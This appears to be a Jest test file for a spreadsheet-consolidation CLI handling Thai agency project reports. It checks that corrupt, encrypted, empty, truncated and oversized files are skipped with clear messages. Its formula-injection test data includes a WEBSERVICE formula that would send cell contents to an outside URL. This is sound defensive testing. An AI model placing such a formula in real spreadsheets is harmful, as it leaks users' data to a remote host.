import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { OUTPUT_SHEETS } from '../../src/core/consolidate/consolidate';
import { FIELD_HEADER, SOURCE_HEADERS } from '../../src/core/consolidate/output-grids';
import { columnLetter } from '../../src/core/table/address';
import { readWorkbook } from '../../src/xlsx/read';
import { cli, sha256 } from '../helpers/cli';
import { ole2Bytes, partText, workbookBytes } from '../xlsx/fixtures';
import { csvText, normalizedWorkbook, utf8WithBom, type AgencyProject } from './agency-files';

/**
 * Files a coordinator's folder really holds beside good ones — cut short, password-protected,
 * empty, a blank sheet, a cell of Excel's full length, text that reads like a formula, a Thai name
 * with spaces — each consolidated correctly or skipped with one line naming the file and why,
 * the run going on with the others. (CSV in Windows-874 is consolidate-cli.test.ts's culture file.)
 */

let root: string;
beforeAll(() => { root = mkdtempSync(join(tmpdir(), 'report-checker-hostile-')); });
afterAll(() => rmSync(root, { recursive: true, force: true }));

/** Text Excel would take for a formula, a sum or a mention, were it not written as text. */
const FORMULA_LIKE = ['=WEBSERVICE("http://example.com/?q="&A1)', '+1', '-x', '@y'];
const HUGE = 'ก'.repeat(32_767);

const project = (code: string, name: string, agency = 'สำนักการโยธา / กองก่อสร้าง'): AgencyProject => ({
  code, name, fiscalYear: 2563, agency, start: '1/10/2562', end: '30/9/2563', budget: 1_000_000,
  reports: [{ reportNo: 1, date: '31/10/2562', stage: 'จัดซื้อ', progress: 10, disbursedToDate: 100_000 }],
});

const PROJECT_HEADER = ['รหัสโครงการ', 'ชื่อโครงการ', 'ปีงบประมาณ', 'หน่วยงานที่รับผิดชอบ', 'เริ่มต้นโครงการ', 'สิ้นสุดโครงการ', 'งบประมาณที่ได้รับ (บาท)'];
const projectRow = (p: AgencyProject) => [p.code, p.name, p.fiscalYear, p.agency, p.start, p.end, p.budget];

interface Folder { folder: string; files: Record<string, string> }

async function hostileFolder(name: string): Promise<Folder> {
  const folder = join(root, name);
  mkdirSync(folder, { recursive: true });
  const good = await normalizedWorkbook([project('03000000-3001', 'ถนนซอยวัดใหม่'), project('03000000-3002', HUGE)], 'บัญชีโครงการ');
  const files = {
    good: join(folder, 'good.xlsx'),
    formulaXlsx: join(folder, 'formula-like.xlsx'),
    formulaCsv: join(folder, 'formula-like.csv'),
    thaiName: join(folder, 'งบ ปี 2563 สำนักการระบายน้ำ.csv'),
    truncated: join(folder, 'truncated.xlsx'),
    corrupt: join(folder, 'corrupt.xlsx'),
    encrypted: join(folder, 'secret.xlsx'),
    empty: join(folder, 'empty.xlsx'),
    blankSheet: join(folder, 'blank-sheet.xlsx'),
    hugeField: join(folder, 'huge-field.csv'),
  };
  writeFileSync(files.good, good);
  writeFileSync(files.formulaXlsx, await normalizedWorkbook(FORMULA_LIKE.map((text, i) => project(`03000000-31${String(i).padStart(2, '0')}`, text)), 'สูตร'));
  writeFileSync(files.formulaCsv, utf8WithBom(csvText([PROJECT_HEADER, ...FORMULA_LIKE.map((text, i) => projectRow(project(`03000000-32${String(i).padStart(2, '0')}`, text)))])));
  writeFileSync(files.thaiName, utf8WithBom(csvText([PROJECT_HEADER, projectRow(project('03000000-3301', 'ขุดลอกคลอง', 'สำนักการระบายน้ำ'))])));
  // The download cut short: the end of the package (its directory) is missing.
  writeFileSync(files.truncated, good.subarray(0, Math.floor(good.length / 2)));
  // The directory intact, a part's compressed bytes overwritten.
  const corrupt = new Uint8Array(good);
  const sheetEntry = Buffer.from(corrupt).indexOf('xl/worksheets/sheet1.xml');
  corrupt.fill(0xff, sheetEntry + 40, sheetEntry + 400);
  writeFileSync(files.corrupt, corrupt);
  writeFileSync(files.encrypted, ole2Bytes('EncryptedPackage'));
  writeFileSync(files.empty, new Uint8Array());
  writeFileSync(files.blankSheet, await workbookBytes((workbook) => { workbook.addWorksheet('Sheet1'); }));
  writeFileSync(files.hugeField, utf8WithBom(csvText([PROJECT_HEADER, projectRow(project('03000000-3401', 'ข'.repeat(40_000)))])));
  return { folder, files };
}

/** The `<c>` element of cell `ref` in a worksheet part's text. */
function cellXml(sheetXml: string, ref: string): string {
  const match = new RegExp(`<c r="${ref}"[^>]*?(?:/>|>.*?</c>)`).exec(sheetXml);
  if (!match) throw new Error(`no cell ${ref}`);
  return match[0];
}

describe('consolidate on a folder of hostile files', () => {
  let folder: Folder;
  let out: string;
  let result: Awaited<ReturnType<typeof cli>>;

  beforeAll(async () => {
    folder = await hostileFolder('mixed');
    out = join(root, 'mixed.xlsx');
    result = await cli('consolidate', folder.folder, '--out', out, '--lang', 'en');
  });

  it('skips each unusable file with one line naming it and why, and goes on with the others', () => {
    const { files } = folder;
    // In the order the folder is read: by name.
    expect(result.stderr).toEqual([
      `skipped ${files.blankSheet} has no data: none of its sheets has a filled cell`,
      expect.stringMatching(new RegExp(`^skipped ${files.corrupt} is damaged: .*sheet1\\.xml`)),
      `skipped ${files.empty} is empty (0 bytes)`,
      expect.stringMatching(new RegExp(`^skipped ${files.hugeField} is refused: the field at row 2, column B .* is longer than 32,767, the limit limits\\.maxCellChars`)),
      `skipped ${files.encrypted} is password-protected: open it in Excel, remove the password (File > Info > Protect Workbook > Encrypt with Password) and save it again`,
      `skipped ${files.truncated} is damaged: it starts like an .xlsx file but cannot be unpacked (was the download or copy cut short?)`,
    ]);
    expect(result.stderr.every((line) => !line.includes('\n'))).toBe(true);
    expect(result.code).toBeLessThan(2);
    expect(result.stdout.join('\n')).toContain('Consolidated 11 projects and 6 reports');
  });

  it('keeps text that reads like a formula as text cells, never formulas', async () => {
    const bytes = new Uint8Array(readFileSync(out));
    const [projects] = await readWorkbook(bytes, out);
    expect(projects.sheet).toBe(OUTPUT_SHEETS.en.projects);
    const nameColumn = projects.values[0].indexOf(FIELD_HEADER.name);
    const sheetXml = await partText(bytes, 'xl/worksheets/sheet1.xml');
    expect(sheetXml).not.toMatch(/<f[ >]/);
    for (const text of FORMULA_LIKE) {
      const rows = projects.values.flatMap((row, r) => (row[nameColumn] === text ? [r + 1] : []));
      // One row from the workbook, one from the CSV.
      expect([text, rows.length]).toEqual([text, 2]);
      for (const row of rows) expect(cellXml(sheetXml, `${columnLetter(nameColumn)}${row}`)).toMatch(/ t="(inlineStr|s)"/);
    }
  });

  it('writes a cell of Excel\'s full length whole', async () => {
    const [projects] = await readWorkbook(new Uint8Array(readFileSync(out)), out);
    const nameColumn = projects.values[0].indexOf(FIELD_HEADER.name);
    expect(projects.values.filter((row) => row[nameColumn] === HUGE)).toHaveLength(1);
  });

  it('reads a file whose name has Thai characters and spaces, and names it as the source of its rows', async () => {
    const [projects] = await readWorkbook(new Uint8Array(readFileSync(out)), out);
    const [header] = projects.values;
    const row = projects.values.find((values) => values[0] === '03000000-3301')!;
    expect(row[header.indexOf(SOURCE_HEADERS.en.file)]).toBe(folder.files.thaiName);
    expect(row[header.indexOf(SOURCE_HEADERS.en.sheet)]).toBe('งบ ปี 2563 สำนักการระบายน้ำ');
    expect(row[header.indexOf(SOURCE_HEADERS.en.sha256)]).toBe(sha256(folder.files.thaiName));
  });
});

describe('consolidate when no file is usable', () => {
  it('skips each with its line, then exits 2 with one line saying nothing was found', async () => {
    const { folder, files } = await hostileFolder('unusable');
    for (const usable of [files.good, files.formulaXlsx, files.formulaCsv, files.thaiName]) rmSync(usable);
    const target = join(root, 'nothing.xlsx');
    const result = await cli('consolidate', folder, '--out', target, '--lang', 'en');
    expect(result.code).toBe(2);
    expect(result.stderr).toHaveLength(7);
    expect(result.stderr.slice(0, 6).every((line) => line.startsWith('skipped '))).toBe(true);
    expect(result.stderr[6]).toBe('report-checker: nothing to consolidate: none of the 6 files holds a project or report table, a standard form or a printed form');
  });
});
